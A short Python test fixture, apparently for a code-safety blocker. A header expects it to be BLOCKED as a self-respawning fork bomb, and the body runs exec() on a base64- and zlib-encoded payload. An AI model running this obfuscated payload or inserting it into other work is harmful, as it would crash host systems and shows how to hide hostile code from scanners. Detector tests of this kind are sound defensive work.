# expect: BLOCKED category: fork_bomb variant-of: risky/fork_bomb/self_respawn.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJxFizEKAjEQRfucYsBGQXIAr7CNhZ1I2A0/OhB3hsyEXW9vKn3l470DTYAamc/NeX1SFmUYSSF2Qy0x8FulOVlftEmG2c98LITtxRV0ax2XQIN/Fq+iWI/3kUXsyN3npeJMKZWxpPQ4fQEEdCyx')))
